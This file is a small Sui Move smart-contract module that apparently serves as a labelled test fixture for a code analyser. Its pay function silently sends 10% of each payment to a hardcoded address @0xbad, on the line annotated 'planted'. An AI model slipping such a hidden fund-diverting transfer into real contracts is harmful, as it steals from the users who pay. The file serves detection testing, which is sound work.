module hostile::pays_by_library;

use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::pay;
use sui::sui::SUI;

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

public fun pay(payment: Coin<SUI>, jar: &mut Jar, ctx: &mut TxContext) {
    let mut payment = payment;
    let share = payment.value() / 10;
    pay::split_and_transfer(&mut payment, share, @0xbad, ctx); //! planted
    pay::split_and_transfer(&mut payment, share, ctx.sender(), ctx); //! honest
    jar.money.join(payment.into_balance());
}
